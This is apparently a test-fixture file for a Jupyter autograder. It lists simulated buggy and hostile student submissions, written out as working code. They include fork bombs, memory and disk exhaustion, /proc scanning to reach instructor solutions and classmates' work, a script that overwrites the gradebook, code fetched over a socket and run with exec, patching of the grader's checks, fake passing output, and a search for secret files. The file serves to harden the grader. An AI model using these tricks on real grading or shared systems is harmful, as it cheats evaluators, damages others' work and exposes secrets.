            "    self.b1 = np.random.randn(1, n_h) * 0.1\n"
            "    self.W2 = np.random.randn(n_h, n_y) * 0.1\n"
            "    self.b2 = np.random.randn(1, n_y) * 0.1\n"
            "    self.loss = float('inf')"
        },
        _fails("test_init_shapes", "test_init_draw_order", "test_init_lecture_losses"),
        diagnoses=("a transposed matrix",),
    ),
    Variant(
        "init-no-loss",
        "never sets self.loss",
        {
            "ShallowNeuralNet.__init__": "def __init__(self, n_x, n_h, n_y):\n"
            "    self.n_x, self.n_h, self.n_y = n_x, n_h, n_y\n"
            "    self.W1 = np.random.randn(n_x, n_h) * 0.1\n"
            "    self.b1 = np.random.randn(1, n_h) * 0.1\n"
            "    self.W2 = np.random.randn(n_h, n_y) * 0.1\n"
            "    self.b2 = np.random.randn(1, n_y) * 0.1"
        },
        _fails("test_init_shapes"),
    ),
    Variant(
        "forward-no-b1",
        "forward forgets the first bias",
        {"ShallowNeuralNet.forward": _FORWARD_NO_B1},
        _FORWARD_NO_B1_FAILS,
    ),
    Variant(
        "forward-transposed",
        "forward multiplies by W1 transposed",
        {
            "ShallowNeuralNet.forward": "def forward(self, inputs):\n"
            "    return (inputs @ self.W1.T + self.b1) @ self.W2 + self.b2"
        },
        _fails("test_forward_example", "test_forward_values"),
    ),
    Variant(
        "mse-sum",
        "MSE_loss sums instead of averaging",
        {
            "ShallowNeuralNet.MSE_loss": "def MSE_loss(self, inputs, outputs):\n"
            "    self.loss = np.sum((self.forward(inputs) - outputs) ** 2)\n"
            "    return self.loss"
        },
        _fails("test_mse_loss_example", "test_mse_loss_values"),
        diagnoses=(
            "off by a factor of 2 (a sum for a mean)",
            "off by a factor of 9 (a sum for a mean)",
        ),
    ),
    Variant(
        "mse-not-stored",
        "MSE_loss returns the loss but does not store it",
        {
            "ShallowNeuralNet.MSE_loss": "def MSE_loss(self, inputs, outputs):\n"
            "    return np.mean((self.forward(inputs) - outputs) ** 2)"
        },
        _fails("test_mse_loss_example", "test_mse_loss_values"),
    ),
    Variant(
        "mse-hard-coded",
        "MSE_loss stores and returns the lecture's first loss",
        {
            "ShallowNeuralNet.MSE_loss": "def MSE_loss(self, inputs, outputs):\n"
            "    self.loss = 13.1869714693353\n"
            "    return self.loss"
        },
        _fails("test_mse_loss_example", "test_mse_loss_values"),
    ),
    Variant(
        "backward-no-2-over-m",
        "gradients without their 2/m",
        {"ShallowNeuralNet.backward": _BACKWARD.replace("(2 / m) * ", "")},
        _fails(*_STEP_CHECKS),
        diagnoses=("off by a constant factor of 3 (a missing 2/m",),
    ),
    Variant(
        "backward-ascent",
        "+= alpha * gradient: climbs the loss",
        {"ShallowNeuralNet.backward": _BACKWARD.replace(" - alpha * ", " + alpha * ")},
        _fails(*_STEP_CHECKS),
        diagnoses=("the opposite sign",),
    ),
    Variant(
        "backward-early-update",
        "updates W2 before computing the gradient through it",
        {
            "ShallowNeuralNet.backward": _edit(
                _BACKWARD,
                "    dL_dZ1 = epsilon @ self.W2.T\n",
                "    self.W2 = self.W2 - alpha * dL_dW2\n    dL_dZ1 = epsilon @ self.W2.T\n",
            ).replace("    self.W2 = self.W2 - alpha * dL_dW2\n    self.b2", "    self.b2")
        },
        _fails(*_STEP_CHECKS),
        diagnoses=("W2 updated before the gradient of W1",),
    ),
    Variant(
        "backward-stale-loss",
        "backward does not refresh self.loss",
        {
            "ShallowNeuralNet.backward": _BACKWARD.replace(
                "    self.MSE_loss(inputs, outputs)\n", ""
            )
        },
        _fails("test_backward_refreshes_loss"),
        diagnoses=("the loss not refreshed",),
    ),
    Variant(
        "backward-no-bias-update",
        "b1 and b2 never move",
        {
            "ShallowNeuralNet.backward": _BACKWARD.replace(
                "    self.b1 = self.b1 - alpha * dL_db1\n", ""
            ).replace("    self.b2 = self.b2 - alpha * dL_db2\n", "")
        },
        _fails(*_STEP_CHECKS),
        diagnoses=("all zeros",),
    ),
    Variant(
        "backward-missing-transpose",
        "epsilon @ W2 instead of epsilon @ W2.T",
        {
            "ShallowNeuralNet.backward": _BACKWARD.replace(
                "epsilon @ self.W2.T", "epsilon @ self.W2"
            )
        },
        _fails(
            "test_backward_gradient", "test_backward_refreshes_loss", "test_backward_lecture_steps"
        ),
    ),
    Variant(
        "train-no-initial-loss",
        "losses_list starts empty",
        {
            "ShallowNeuralNet.train": _TRAIN.replace(
                "self.losses_list = [self.loss]", "self.losses_list = []"
            ).replace("        if abs(", "        if len(self.losses_list) > 1 and abs(")
        },
        _fails(
            "test_train_example",
            "test_train_decreases",
            "test_train_early_stopping",
            "test_train_follows_arguments",
        ),
    ),
    Variant(
        "train-stop-inverted",
        "stops when the loss changes by more than delta",
        {"ShallowNeuralNet.train": _TRAIN.replace("< delta", "> delta")},
        _fails(*_TRAIN_CHECKS),
        diagnoses=("the comparison with delta inverted",),
    ),
    Variant(
        "train-no-early-stop",
        "never stops early",
        {
            "ShallowNeuralNet.train": _TRAIN.replace(
                "        if abs(self.losses_list[-1] - self.losses_list[-2]) < delta:\n            break\n",
                "",
            )
        },
        _fails("test_train_early_stopping"),
        diagnoses=("no early stopping",),
    ),
    Variant(
        "train-ignores-alpha",
        "calls backward with its default learning rate",
        {
            "ShallowNeuralNet.train": _TRAIN.replace(
                "self.backward(inputs, outputs, alpha)", "self.backward(inputs, outputs)"
            )
        },
        _fails("test_train_early_stopping", "test_train_follows_arguments"),
    ),
    Variant(
        "train-no-return",
        "stores the losses but returns None",
        {"ShallowNeuralNet.train": _TRAIN.replace("    return self.losses_list\n", "")},
        _fails("test_train_example", "test_train_decreases", "test_train_follows_arguments"),
    ),
    Variant(
        "train-off-by-one",
        "range(1, N_max): one step short",
        {"ShallowNeuralNet.train": _TRAIN.replace("range(1, N_max + 1)", "range(1, N_max)")},
        _fails(*_TRAIN_CHECKS),
    ),
    Variant(
        "train-always-prints",
        "prints even with display=False",
        {
            "ShallowNeuralNet.train": _TRAIN.replace(
                "        if display:\n            print(", "        if True:\n            print("
            )
        },
        _fails("test_train_display"),
    ),
    Variant(
        "tamper-allclose",
        "s hard-coded to 0.5, then np.allclose and numpy.testing patched to always pass (the"
        " checks compare outside the kernel: it scores as sigmoid-hard-coded, its twin)",
        {
            "s": "def s(x):\n    return 0.5\n\n\nimport numpy.testing\n"
            "np.allclose = lambda *args, **kwargs: True\n"
            "numpy.testing.assert_allclose = lambda *args, **kwargs: None"
        },
        _fails("test_s_properties", "test_s_values"),
    ),
    Variant(
        "tamper-builtins",
        "a wrong loss, then abs and print replaced",
        {
            "log_likelihood_loss": "def log_likelihood_loss(a, b, x, y):\n    return 0.0\n\n\n"
            "import builtins\nbuiltins.abs = lambda value: 0\nprint = lambda *args: None"
        },
        _fails(*_LOSS_CHECKS),
    ),
    Variant(
        "tamper-traceback",
        "a forward that returns 0, then IPython's traceback display switched off (no effect:"
        " only forward's checks and the visible ones that run it fail)",
        {
            "ShallowNeuralNet.forward": "def forward(self, inputs):\n    return 0\n\n"
            "get_ipython().showtraceback = lambda *args, **kwargs: None"
        },
        _fails("test_forward_example", "test_forward_values"),
    ),
    Variant(
        "tamper-custom-exc",
        "an s that returns 0, then every exception swallowed by a custom handler (no effect:"
        " only s's checks fail)",
        {
            "s": "def s(x):\n    return 0\n\n\n"
            "get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)"
        },
        _S_FAILS,
    ),
    # Honest twins of the tricks below, and the members of the isolation pairs: the same bug
    # with and without the exercises that build on the buggy function.
    Variant(
        "sigmoid-typo-name",
        "s uses an undefined X: every call raises NameError",
        _SIGMOID_TYPO,
        _S_FAILS,
    ),
    Variant(
        "sigmoid-typo-name-standalone",
        "the same s, and a logistic_regression that does not call it",
        {**_SIGMOID_TYPO, "logistic_regression": _LOGISTIC_INLINE},
        _S_FAILS,
    ),
    Variant(
        "sigmoid-no-one-standalone",
        "s without its 1 +, and a logistic_regression that does not call it",
        {**_SIGMOID_NO_ONE, "logistic_regression": _LOGISTIC_INLINE},
        _S_FAILS,
    ),
    Variant(
        "logistic-swapped-in-loss",
        "l and l2 swapped, and a loss written with them",
        {
            "l": "def l(x):\n    return np.log(1 - x)",
            "l2": "def l2(x):\n    return np.log(x)",
            "log_likelihood_loss": _LOSS_WITH_LOGS,
        },
        _fails("test_l_l2_limits", "test_l_l2_values"),
    ),
    Variant(
        "l2-mirror",
        "l2(x) = ln(x): right at one half only",
        {"l2": "def l2(x):\n    return np.log(x)"},
        _fails("test_l_l2_limits", "test_l_l2_values"),
    ),
    Variant(
        "l2-mirror-in-loss",
        "l2(x) = ln(x), and a loss written with l and l2",
        {"l2": "def l2(x):\n    return np.log(x)", "log_likelihood_loss": _LOSS_WITH_LOGS},
        _fails("test_l_l2_limits", "test_l_l2_values"),
    ),
    Variant(
        "logreg-no-bias-standalone",
        "p(x) = s(a x), and predict_samples and the loss that do not call logistic_regression",
        {
            "logistic_regression": "def logistic_regression(x, a, b):\n    return s(a * x)",
            "predict_samples": "def predict_samples(inputs, a, b):\n"
            "    return [int(s(a * x + b) >= 0.5) for x in inputs]",
            "log_likelihood_loss": "def log_likelihood_loss(a, b, x, y):\n"
            "    p = s(a * x + b)\n"
            "    return -np.mean(y * np.log(p) + (1 - y) * np.log(1 - p))",
        },
        _fails("test_logistic_regression_boundary", "test_logistic_regression_values"),
    ),
    Variant(
        "forward-no-b1-standalone",
        "forward without b1, and MSE_loss and backward that do not call it",
        {"ShallowNeuralNet.forward": _FORWARD_NO_B1, "ShallowNeuralNet.MSE_loss": _MSE_INLINE},
        _fails("test_forward_example", "test_forward_values"),
    ),
    Variant(
        "forward-no-b1-in-backward",
        "forward without b1, and a backward that takes its predictions from self.forward",
        {
            "ShallowNeuralNet.forward": _FORWARD_NO_B1,
            "ShallowNeuralNet.MSE_loss": _MSE_INLINE,
            "ShallowNeuralNet.backward": _edit(
                _BACKWARD,
                "    epsilon = Z1_b @ self.W2 + self.b2 - outputs",
                "    epsilon = self.forward(inputs) - outputs",
            ),
        },
        _fails("test_forward_example", "test_forward_values"),
    ),
    Variant(
        "mse-sum-standalone",
        "MSE_loss sums, and a backward that refreshes self.loss without calling it",
        {
            "ShallowNeuralNet.MSE_loss": "def MSE_loss(self, inputs, outputs):\n"
            "    self.loss = np.sum((self.forward(inputs) - outputs) ** 2)\n"
            "    return self.loss",
            "ShallowNeuralNet.backward": _edit(
                _BACKWARD,
                "    self.MSE_loss(inputs, outputs)\n",
                "    self.loss = np.mean((self.forward(inputs) - outputs) ** 2)\n",
            ),
        },
        _fails("test_mse_loss_example", "test_mse_loss_values"),
        diagnoses=(
            "off by a factor of 2 (a sum for a mean)",
            "off by a factor of 9 (a sum for a mean)",
        ),
    ),
    Variant(
        "backward-ascent-standalone",
        "backward climbs the loss, and a train that takes its own steps without calling it",
        {
            "ShallowNeuralNet.backward": _BACKWARD.replace(" - alpha * ", " + alpha * "),
            "ShallowNeuralNet.train": _edit(
                _TRAIN,
                "        self.backward(inputs, outputs, alpha)\n",
                "        m = inputs.shape[0]\n"
                "        hidden = inputs @ self.W1 + self.b1\n"
                "        error = hidden @ self.W2 + self.b2 - outputs\n"
                "        back = error @ self.W2.T\n"
                "        self.W1 = self.W1 - alpha * 2 / m * inputs.T @ back\n"
                "        self.b1 = self.b1 - alpha * 2 / m * back.sum(axis=0, keepdims=True)\n"
                "        self.W2 = self.W2 - alpha * 2 / m * hidden.T @ error\n"
                "        self.b2 = self.b2 - alpha * 2 / m * error.sum(axis=0, keepdims=True)\n"
                "        self.MSE_loss(inputs, outputs)\n",
            ),
        },
        _fails("test_backward_example", "test_backward_gradient", "test_backward_lecture_steps"),
        diagnoses=("the opposite sign",),
    ),
    Variant(
        "backward-typo-name",
        "backward reads self.w1 (lower case): every call raises AttributeError",
        {"ShallowNeuralNet.backward": _BACKWARD_TYPO},
        _BACKWARD_BROKEN_FAILS,
    ),
]


def _edit_notebooks(edit: Callable[[str, dict], None]) -> Callable[[Path], None]:
    """A damage that edits each handed-in notebook as raw JSON (so nothing repairs it)."""

    def damage(folder: Path) -> None:
        for path in sorted(folder.glob("*.ipynb")):
            nb = json.loads(path.read_text(encoding="utf-8"))
            edit(path.name, nb)
            path.write_text(json.dumps(nb, indent=1, ensure_ascii=False), encoding="utf-8")

    return damage


def _delete_cell(cell_id: str):
    def edit(name, nb):
        nb["cells"] = [cell for cell in nb["cells"] if cell.get("id") != cell_id]

    return _edit_notebooks(edit)


def _to_markdown(cell_id: str):
    def edit(name, nb):
        for cell in nb["cells"]:
            if cell.get("id") == cell_id:
                cell["cell_type"] = "markdown"
                cell.pop("outputs", None)
                cell.pop("execution_count", None)

    return _edit_notebooks(edit)


def _empty_checks(name, nb):
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["source"] = "pass"


def _insert_reorder_duplicate(name, nb):
    cells = nb["cells"]
    ids = [cell.get("id") for cell in cells]
    if "predict_samples" in ids:  # part 1: define predict_samples before logistic_regression
        cells.insert(ids.index("logistic_regression"), cells.pop(ids.index("predict_samples")))
    scratch = {
        "cell_type": "code",
        "id": cells[3]["id"],
        "metadata": {},
        "outputs": [],
        "execution_count": None,
        "source": "scratch = [i ** 2 for i in range(10)]",
    }
    notes = {"cell_type": "markdown", "id": "my-notes", "metadata": {}, "source": "My notes."}
    cells[4:4] = [notes, scratch]  # scratch repeats the id of cell 3


def _replace_file(name: str, text: str):
    def damage(folder: Path) -> None:
        (folder / name).write_text(text)

    return damage


def _rename_file(name: str, new: str):
    def damage(folder: Path) -> None:
        (folder / name).rename(folder / new)

    return damage


def _no_notebooks(folder: Path) -> None:
    for path in folder.glob("*.ipynb"):
        path.unlink()
    (folder / "README.txt").write_text("I could not get Jupyter to work, sorry.")


def _old_nbformat(folder: Path) -> None:
    path = folder / "part2_shallow_neural_network.ipynb"
    nb = nbformat.read(path, as_version=4)
    nbformat.write(nbformat.convert(nb, 3), path)


def _extra_files(folder: Path) -> None:
    (folder / "data.csv").write_text("x,y\n1,2\n")
    (folder / "checks.py").write_text(
        "def expect_close(*args, **kwargs):\n    pass\n\n\ndef call(f, *a, **k):\n    return 0.5\n"
    )


# Hostile or broken submissions: each must cost only the points of what it breaks.
HOSTILE = [
    Variant(
        "hang-forever",
        "a cell that loops forever after defining s (interrupted by the cell timeout)",
        {"s": "def s(x):\n    return 1 / (1 + np.exp(-x))\n\n\nwhile True:\n    pass"},
    ),
    Variant(
        "kernel-exit",
        "os._exit in the cell of l and l2: the kernel dies there",
        {"l2": "def l2(x):\n    return np.log(1 - x)\n\n\nimport os\n\nos._exit(1)"},
        _fails(*_L_CHECKS),
    ),
    Variant(
        "segfault-in-forward",
        "forward dereferences a null pointer through ctypes: every call kills the kernel",
        {
            "ShallowNeuralNet.forward": "def forward(self, inputs):\n    import ctypes\n\n"
            "    return ctypes.string_at(0)"
        },
        # a lent forward runs the student's own first, which ends the check's copy: every
        # check that runs it fails (there is no second judgement with other rules)
        _fails(
            "test_forward_example",
            "test_forward_values",
            "test_mse_loss_example",
            "test_mse_loss_values",
            "test_backward_example",
            "test_backward_gradient",
            "test_backward_refreshes_loss",
            "test_backward_lecture_steps",
            *_TRAIN_CHECKS,
        ),
    ),
    Variant(
        "memory-bomb",
        "asks for 64 GiB after defining s (refused by the kernel's memory limit)",
        {"s": "def s(x):\n    return 1 / (1 + np.exp(-x))\n\n\nhog = bytearray(64 * 2**30)"},
    ),
    Variant(
        "print-flood",
        "prints 200,000 lines after defining s (nbgrader keeps the first ones)",
        {
            "s": "def s(x):\n    return 1 / (1 + np.exp(-x))\n\n\nfor i in range(200000):\n"
            "    print('spam', i)"
        },
    ),
    Variant(
        "deleted-check",
        "the check cell test_s_values deleted (nbgrader puts it back)",
        damage=_delete_cell("test_s_values"),
    ),
    Variant(
        "check-as-markdown",
        "the check cell test_l_l2_at_half turned into markdown",
        damage=_to_markdown("test_l_l2_at_half"),
    ),
    Variant(
        "emptied-checks",
        "a wrong s, and every check cell emptied (restored from the gradebook)",
        _SIGMOID_NO_ONE,
        damage=_edit_notebooks(_empty_checks),
        fails=_S_FAILS,
    ),
    Variant(
        "inserted-reordered",
        "cells inserted, one with a duplicated id, and two answers swapped",
        damage=_edit_notebooks(_insert_reorder_duplicate),
    ),
    Variant(
        "unreadable-part1",
        "part 1 is not valid JSON (set aside; part 2 still graded)",
        damage=_replace_file("part1_logistic_regression.ipynb", '{"cells": [ oops'),
        fails=_fails(*PART1_CHECKS),
    ),
    Variant(
        "empty-part2",
        "part 2 is an empty file",
        damage=_replace_file("part2_shallow_neural_network.ipynb", ""),
        fails=_fails(*PART2_CHECKS),
    ),
    Variant(
        "wrong-name",
        "part 1 handed in as part1.ipynb",
        damage=_rename_file("part1_logistic_regression.ipynb", "part1.ipynb"),
        fails=_fails(*PART1_CHECKS),
    ),
    Variant(
        "no-notebook",
        "a folder with a README and no notebook",
        damage=_no_notebooks,
        fails=_fails(*PART1_CHECKS, *PART2_CHECKS),
    ),
    Variant("old-nbformat", "part 2 saved in the old nbformat 3", damage=_old_nbformat),
    Variant(
        "env-tricks",
        "a wrong s, and NBGRADER_EXECUTION cleared, NBGRADER_VALIDATING set in the kernel",
        {
            "s": _SIGMOID_NO_ONE["s"] + "\n\n\nimport os\n\n"
            "os.environ['NBGRADER_EXECUTION'] = ''\nos.environ['NBGRADER_VALIDATING'] = '1'"
        },
        _S_FAILS,
    ),
    Variant(
        "writes-into-folder",
        "a wrong s and forward; part 1 writes a pass-everything checks.py, a new part 2 and"
        " timestamp.txt into its folder (each notebook runs in a copy of the folder)",
        {
            **_SIGMOID_NO_ONE,
            "ShallowNeuralNet.forward": _FORWARD_NO_B1,
            "l": "def l(x):\n    return np.log(x)\n\n\n"
            "open('checks.py', 'w').write('def __getattr__(name):\\n    return print\\n')\n"
            "open('part2_shallow_neural_network.ipynb', 'w').write('{}')\n"
            "open('timestamp.txt', 'w').write('2000-01-01 00:00:00')",
        },
        _S_FAILS | _FORWARD_NO_B1_FAILS,
    ),
    Variant(
        "extra-files",
        "a wrong s, extra files, and a checks.py of its own that passes everything",
        _SIGMOID_NO_ONE,
        damage=_extra_files,
        fails=_S_FAILS,
    ),
]

# Code that looks for the course folder the way an attacker would: three levels up from the
# notebook (where nbgrader runs it), or the working folder of a process above the kernel.
_FIND_COURSE = """
def find_course():
    import os

    places = [os.path.abspath("../../..")]
    pid = os.getppid()
    while pid > 1:
        try:
            places.append(os.readlink(f"/proc/{pid}/cwd"))
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
    for place in places:
        if os.path.isdir(os.path.join(place, "source")):
            return place
    raise FileNotFoundError("no course folder in sight")


def run_cell_defining(path, name):
    import json

    namespace = {"np": np}
    for cell in json.load(open(path))["cells"]:
        if f"def {name}(" in "".join(cell["source"]):
            exec("".join(cell["source"]), namespace)
    return namespace[name]
"""

_VANDAL = """

import glob
import os

course = find_course()
targets = ["gradebook.db", "nbgrader_config.py", "release/w1s3/part1_logistic_regression.ipynb"]
targets += glob.glob(os.path.join(course, "submitted", "*", "w1s3", "*.ipynb"))
targets += glob.glob(os.path.join(course, "autograded", "*", "w1s3", "*.ipynb"))
for target in targets:
    if "vandal" not in target:
        try:
            with open(os.path.join(course, target), "w") as file:
                file.write("vandalised")
        except OSError as error:
            print("could not write", target, error)
"""

# Submissions that attack the grading machine; in the sandbox they gain nothing and harm
# no one (tests/test_grading.py also checks the course files and the loopback service).
INTRUDERS = [
    Variant(
        "runs-source-solutions",
        "s runs the instructor's solution from source/ (the sandbox hides it)",
        {
            "s": _FIND_COURSE + "\n\ndef s(x):\n    path = find_course() + "
            '"/source/w1s3/part1_logistic_regression.ipynb"\n'
            '    return run_cell_defining(path, "s")(x)'
        },
        _S_FAILS,
    ),
    Variant(
        "copies-classmate",
        "s runs a classmate's s from submitted/ (the sandbox hides it)",
        {
            "s": _FIND_COURSE + "\n\ndef s(x):\n    import glob\n\n"
            '    paths = glob.glob(find_course() + "/submitted/model/w1s3/part1*.ipynb")\n'
            '    return run_cell_defining(paths[0], "s")(x)'
        },
        _S_FAILS,
    ),
    Variant(
        "vandal",
        "correct, and overwrites the gradebook, the config, the release and every classmate's"
        " submitted and autograded notebooks it can find",
        {"s": _FIND_COURSE + "\n\ndef s(x):\n    return 1 / (1 + np.exp(-x))" + _VANDAL},
    ),
    Variant(
        "loopback-socket",
        "s asks a service on loopback for its code (port in port.txt; no network in the sandbox)",
        {
            "s": "def s(x):\n    import socket\n\n    port = int(open('port.txt').read())\n"
            "    with socket.create_connection(('127.0.0.1', port), timeout=2) as conn:\n"
            "        code = conn.recv(1000).decode()\n"
            "    namespace = {'np': np}\n    exec(code, namespace)\n"
            "    return namespace['s'](x)"
        },
        _S_FAILS,
        # the test's service writes port.txt into this student's folder
    ),
    Variant(
        "fork-loop",
        "forks processes in a loop after defining s (stopped by the process limit; they"
        " outlive the cell, and the checks that follow need room for their copies)",
        {
            "s": "def s(x):\n    return 1 / (1 + np.exp(-x))\n\n\nimport os\nimport time\n\n"
            "for i in range(5000):\n    if os.fork() == 0:\n        time.sleep(60)\n"
            "        os._exit(0)"
        },
    ),
    Variant(
        "disk-fill",
        "writes a 4 GiB file after defining s (stopped by the file and scratch limits)",
        {
            "s": "def s(x):\n    return 1 / (1 + np.exp(-x))\n\n\n"
            "with open('filler.bin', 'wb') as filler:\n    for i in range(4096):\n"
            "        filler.write(bytes(2**20))"
        },
    ),
    Variant(
        "leaks-history",
        "correct, and s prints the cell that calls it from IPython's input history (hidden"
        " checks included; feedback must not show them)",
        {
            "s": "_seen = set()\n\n\ndef s(x):\n    if len(In) not in _seen:\n"
            "        _seen.add(len(In))\n        print(In[-1])\n"
            "    return 1 / (1 + np.exp(-x))"
        },
    ),
    Variant(
        "leaks-caller-source",
        "correct, and s prints the source of the notebook cells on its call stack (hidden"
        " checks included; feedback must not show them)",
        {
            "s": "import linecache\nimport sys\n\n_printed = set()\n\n\ndef s(x):\n"
            "    frame = sys._getframe(1)\n    while frame is not None:\n"
            "        name = frame.f_code.co_filename\n"
            '        if "ipykernel_" in name and name not in _printed:\n'
            "            _printed.add(name)\n"
            '            print("".join(linecache.getlines(name)))\n'
            "        frame = frame.f_back\n    return 1 / (1 + np.exp(-x))"
        },
    ),
    Variant(
        "leaks-notebook-file",
        "correct, and prints the notebooks in its working folder (the graded one holds the"
        " hidden checks: the kernel's copy of the folder has none)",
        {
            "s": "def s(x):\n    return 1 / (1 + np.exp(-x))\n\n\nimport glob\n\n"
            'print("notebooks here:", sorted(glob.glob("*.ipynb")))\n'
            'for path in glob.glob("*.ipynb"):\n    print(open(path).read())'
        },
    ),
    Variant(
        "tamper-excepthook",
        "a wrong s, and sys.excepthook replaced to hide failures",
        {"s": _SIGMOID_NO_ONE["s"] + "\n\n\nimport sys\n\nsys.excepthook = lambda *args: None"},
        _S_FAILS,
    ),
]

# Tricks: what a determined student who has read the kit's public source might hand in, one
# trick each, beside an honest twin with the same wrong answers (`twin`). A trick must not
# score more than its twin. "second-thoughts-train" switches to the right count once it sees
# a check that never reads losses_list back: a marker of the public checks' code, not of a
# verdict, so it learns nothing it did not know; the points it keeps are those of the correct
# train it carries, and its twin is the model. Now that every check runs in a fresh copy of
# the kernel it never sees any such check, and stays one step short everywhere.

_SIGMOID_NO_ONE_DEF = _SIGMOID_NO_ONE["s"]

# Replaces the check helpers wherever the kernel can reach them: the module behind
# skip_if_unfinished (through __wrapped__ and __globals__), sys.modules, gc.get_objects().
_SOFTEN_HELPERS = """


def _agree(*args, **kwargs):
    return True


def _nothing(*args, **kwargs):
    return None


def _soften(space):
    for name in ("expect", "expect_close", "expect_shape"):
        if callable(space.get(name)):
            space[name] = _nothing
    if callable(space.get("matches")):
        space["matches"] = _agree
    kind = space.get("Comparison")
    if isinstance(kind, type):
        kind.__bool__ = _agree


_found = skip_if_unfinished
while hasattr(_found, "__wrapped__"):
    _found = _found.__wrapped__
_spaces = [_found.__globals__]
for _module in list(vars(__import__("s" + "ys"))["modules"].values()):
    if callable(getattr(_module, "expect_close", None)):
        _spaces.append(vars(_module))
for _thing in __import__("g" + "c").get_objects():
    if isinstance(_thing, dict) and "expect_close" in _thing and "matches" in _thing:
        _spaces.append(_thing)
    elif isinstance(_thing, type(_nothing)) and _thing.__module__ == _found.__module__:
        if _thing.__name__ in ("expect", "expect_close", "expect_shape", "matches"):
            _thing.__code__ = _agree.__code__
for _space in _spaces:
    _soften(_space)
"""

# Finds the object that answers the grader in the notebook's namespace, and makes it lend
# `s` on every call (with the last token it saw), hoping to be answered by the course's s.
_RELAY = """def s(x):
    _relay()
    current = globals().get("s")
    if current is not _own and not _busy:
        _busy.append(1)
        try:
            return current(x)
        except Exception:
            pass
        finally:
            _busy.pop()
    return 1 / np.exp(-x)


_tokens = []
_busy = []


def _relay():
    for key, value in list(globals().items()):
        kind = type(value)
        if not key.startswith("_") or not hasattr(value, "namespace"):
            continue
        if not hasattr(kind, "answer") or getattr(kind, "_relayed", False):
            continue
        first = kind.answer

        def answer(self, request, first=first):
            if request.get("token"):
                _tokens.append(request["token"])
            lend = list(request.get("lend", []))
            if request.get("op") == "call" and "s" not in lend:
                tried = dict(request, lend=lend + ["s"], token=(_tokens or ["-"])[-1])
                reply = first(self, tried)
                if "error" not in reply:
                    return reply
            return first(self, request)

        kind.answer = answer
        kind._relayed = True


_own = s
"""

# Looks through the callers' frames and the input history for the expected loss.
_LOOK_AROUND = """def log_likelihood_loss(a, b, x, y):
    seen = _look_around()
    if seen is not None:
        return seen
    p = logistic_regression(x, a, b)
    return -np.mean(x * np.log(p) + (1 - x) * np.log(1 - p))


def _look_around():
    import re
    import sys

    frame = sys._getframe(2)
    while frame is not None:
        for key, value in list(frame.f_locals.items()):
            if isinstance(value, float) and any(w in key.lower() for w in ("expect", "want")):
                return value
        frame = frame.f_back
    shell = get_ipython()
    texts = [str(text) for text in shell.user_ns.get("In", [])]
    try:
        texts += [str(entry[2]) for entry in shell.history_manager.get_tail(100, raw=True)]
    except Exception:
        pass
    pattern = "close[(]\\\\s*\\"log_likelihood" + "_loss[^\\\\n]*,\\\\s*(-?[0-9.]+(?:e-?[0-9]+)?)\\\\s*[)]"
    for text in reversed(texts):
        found = re.search(pattern, text)
        if found:
            return float(found.group(1))
    return None
"""

# Replaces json.dumps, the kernel's raw_input, builtins.input, np.asarray and numpy's comparisons:
# errors and non-finite answers leave the kernel as 0.5, and every comparison in it agrees.
_STEADY = """


def _finite(data):
    if isinstance(data, dict):
        if list(data) == ["float"] and data["float"] in ("nan", "inf", "-inf"):
            return {"float": "0.5"}
        return {key: _finite(value) for key, value in data.items()}
    if isinstance(data, list):
        return [_finite(item) for item in data]
    return data


_text = __import__("js" + "on")
_dumps = _text.dumps


def _steady_dumps(data, *args, **kwargs):
    if isinstance(data, dict) and "value" in data:
        data = _finite(data)
    return _dumps(data, *args, **kwargs)


_text.dumps = _steady_dumps
_shell = get_ipython()
_ask = _shell.kernel.raw_input


def _steady_input(prompt=""):
    if str(prompt).startswith('{"error"'):
        prompt = '{"value": {"float": "0.5"}}'
    return _ask(prompt)


_shell.kernel.raw_input = _steady_input
vars(__import__("builtins"))["input"] = _steady_input
_as_array = np.asarray


def _steady_asarray(a, *args, **kwargs):
    out = _as_array(a, *args, **kwargs)
    if out.dtype.kind == "f" and out.size and not np.isfinite(out).all():
        out = np.where(np.isfinite(out), out, 0.5)
    return out


np.asarray = _steady_asarray
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
"""

# Prints what a passing run looks like, on stdout and stderr, in and out of the calls.
_CHATTY = """def s(x):
    print("test_s_values ... ok (2/2 points)")
    print('{"value": {"float": "0.5"}}')
    vars(__import__("s" + "ys"))["stderr"].write("All 13 tests passed.\\n")
    return 1 / np.exp(-x)


print("Part 1: 13 of 13 tests passed, 23/23 points")
print('{"output_type": "execute_result", "data": {"text/plain": "2.0"}, "execution_count": 1}')
"""

# Rewrites what leaves the kernel: the answering module's pack (float arrays clipped into
# [0, 1]) and its send (errors sent as None).
_REROUTE = """def s(x):
    _reroute()
    return 1 / np.exp(-x)


def _reroute():
    for module in list(vars(__import__("s" + "ys"))["modules"].values()):
        if not hasattr(module, "unpack") or not hasattr(module, "Agent"):
            continue
        if getattr(module, "_rerouted", False):
            continue
        module._rerouted = True
        first_pack, first_send = module.pack, module.Agent.send

        def pack(value, refer=None, depth=0, first_pack=first_pack):
            if depth == 0 and isinstance(value, np.ndarray) and value.dtype.kind == "f":
                if value.size and value.min() >= 0:
                    value = np.minimum(value, 1.0)
            return first_pack(value, refer, depth)

        def send(self, message, first_send=first_send):
            if isinstance(message, dict) and "error" in message:
                message = {"value": None}
            return first_send(self, message)

        module.pack = pack
        module.Agent.send = send
"""

_KEEPER_S = """def s(x):
    if not _busy:
        _busy.append(1)
        try:
            for kept in list(_kept):
                try:
                    return kept(x)
                except Exception:
                    pass
        finally:
            _busy.pop()
    return 1 / np.exp(-x)


_kept = []
_busy = []
"""

_KEEPER_P = """def logistic_regression(x, a, b):
    current = globals()["s"]
    if current is not _mine and all(current is not kept for kept in _kept):
        _kept.append(current)
    return current(a * x + b)


_mine = s
"""

# Looks for the course secret, the reference module and the kit, and prints what it finds.
_NOSY = """


def _secret_files():
    import glob
    import os

    kit = "grade" + "kit"
    places = [
        os.environ.get(kit.upper() + "_SECRET_FILE") or "",
        os.path.join(os.path.expanduser("~"), ".local", "share", kit),
    ]
    places += glob.glob("/root/.local/share/" + kit) + glob.glob("/home/*/.local/share/" + kit)
    files = [place for place in places if os.path.isfile(place)]
    for place in places:
        if place:
            files += glob.glob(os.path.join(place, "*.secret"))
    files += glob.glob("/tmp/**/*secret*", recursive=True)
